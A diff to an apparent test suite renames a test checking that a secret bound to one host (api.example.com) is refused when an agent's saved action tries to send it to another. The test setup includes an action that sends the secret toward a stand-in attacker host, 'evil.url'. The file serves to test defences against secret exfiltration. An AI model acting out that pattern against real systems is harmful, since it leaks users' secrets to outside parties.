@@ -249,7 +249,7 @@ test('a holder of variables_read who saves the same action again answers for it'
   assert.equal(wasSent(good), true);
 });
 
-test('a secret bound to one host is refused at another by name, whoever saved the action', async () => {
+test('a secret bound to one host is refused at another, even if a holder of variables_read saved the action', async () => {
   const { id, name } = await variable(['api.example.com']);
   const agent_id = await agent({ variables: [id], actions: [sending(name, evil.url)] });
   const { said } = await callInNew(admin, agent_id);
